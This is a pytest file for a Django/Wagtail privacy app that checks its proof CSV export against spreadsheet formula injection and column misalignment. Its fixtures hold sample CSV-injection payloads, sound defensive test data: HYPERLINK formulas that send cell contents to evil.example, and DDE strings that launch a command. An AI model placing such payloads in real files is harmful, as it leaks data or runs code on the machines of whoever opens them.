"""The proof CSV is opened in spreadsheets: what a customer typed must not run as a formula,
and every value must sit under its own column."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from wagtail_privacy.consent.models import ConsentPurpose
from wagtail_privacy.notices import fanout
from wagtail_privacy.notices.models import ChangeNotice
from wagtail_privacy.policies.models import PolicyVersion

pytestmark = pytest.mark.django_db
API = "/api/privacy/v1/me"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# One hostile value per way a customer writes into the proof, each with another first character.
ACCEPTANCE_AGENT = '=HYPERLINK("http://evil.example/?x="&B2,"proof")'
CONSENT_AGENTS = {
    ("email", True): "+cmd|' /C calc'!A0",
    ("sms", True): "-2+3+cmd|' /C calc'!A0",
    ("email", False): '@SUM(1+1)*cmd|" /C calc"!A0',
    ("sms", False): '\t=HYPERLINK("http://evil.example/","x")',
}
# A bounce message quotes what the customer gave as their address.
FAILURE_REASON = '\r=HYPERLINK("http://evil.example/?x="&A1,"bounce")'


@pytest.fixture
def officer(db):
    user = get_user_model().objects.create_user("officer", "officer@example.com", "pw")
    user.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["access_admin", "access_privacy_centre", "view_acceptance"]
        )
    )
    return user


@pytest.fixture
def hostile_proof(policies, customer, locales):
    """A notice, an acceptance and four consent decisions, all through the customer's API."""
    page = policies.create(title="Privacy policy", requires_acceptance=True)
    page = policies.publish(page, level="editorial")
    policies.publish(page, level="major", effective_at=policies.days(12), text="v2")
    fanout.fan_out(PolicyVersion.objects.get(number=2).pk)
    ChangeNotice.objects.filter(user=customer).update(failure_reason=FAILURE_REASON)
    ConsentPurpose.objects.create(
        key="newsletter",
        name="Newsletter",
        wording="Send me the newsletter.",
        email=True,
        sms=True,
        locale=locales["en"],
    )
    client = Client()
    client.force_login(customer)
    accepted = client.post(
        f"{API}/acceptances/",
        {"policy": "privacy-policy", "version": 2, "channel": "web"},
        content_type="application/json",
        HTTP_USER_AGENT=ACCEPTANCE_AGENT,
        HTTP_ACCEPT_LANGUAGE="=1+1",
        REMOTE_ADDR="=1+1",  # not an IP address: not kept
    )
    assert accepted.status_code == 201
    for (channel, granted), agent in CONSENT_AGENTS.items():
        response = client.put(
            f"{API}/consents/newsletter/",
            {"channels": {channel: granted}},
            content_type="application/json",
            HTTP_USER_AGENT=agent,
            REMOTE_ADDR="198.51.100.23",
        )
        assert response.status_code == 200
    return customer


def download(officer, customer):
    client = Client()
    client.force_login(officer)
    response = client.get(reverse("wagtail_privacy_proof:csv", args=[customer.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_cell_of_the_proof_csv_can_run_as_a_formula(officer, hostile_proof):
    header, *rows = download(officer, hostile_proof)
    assert sorted(r[0] for r in rows) == ["acceptance", *["consent"] * 4, "notice"]
    cells = [cell for row in [header, *rows] for cell in row]
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    # Inert, but whole: the original text follows the quote.
    for value in [ACCEPTANCE_AGENT, FAILURE_REASON, *CONSENT_AGENTS.values()]:
        assert cells.count("'" + value) == 1


def test_every_row_has_the_header_columns_with_each_value_under_its_name(officer, hostile_proof):
    header, *rows = download(officer, hostile_proof)
    assert len(set(header)) == len(header) and all(header)
    assert [len(row) for row in rows] == [len(header)] * len(rows)
    records = [dict(zip(header, row, strict=True)) for row in rows]

    notice = next(r for r in records if r["record"] == "notice")
    assert notice["failure_reason"] == "'" + FAILURE_REASON
    assert notice["policy"] == "privacy-policy" and notice["version"] == "2"

    acceptance = next(r for r in records if r["record"] == "acceptance")
    assert acceptance["user_agent"] == "'" + ACCEPTANCE_AGENT
    assert acceptance["ip_address"] == ""
    assert acceptance["language"] == "en" and acceptance["channel"] == "web"
    assert acceptance["decision"] == acceptance["consent_channel"] == ""

    consents = [r for r in records if r["record"] == "consent"]
    assert {(r["consent_channel"], r["decision"]): r["user_agent"] for r in consents} == {
        (channel, "granted" if granted else "withdrawn"): "'" + agent
        for (channel, granted), agent in CONSENT_AGENTS.items()
    }
    for consent in consents:
        assert consent["purpose"] == "newsletter"
        assert consent["channel"] == "account"  # where the customer decided
        assert consent["ip_address"] == "198.51.100.0"
        assert consent["decided_at"] and consent["text_sha256"] and consent["version"] == "1"
        assert consent["language"] == consent["policy"] == consent["accepted_at"] == ""
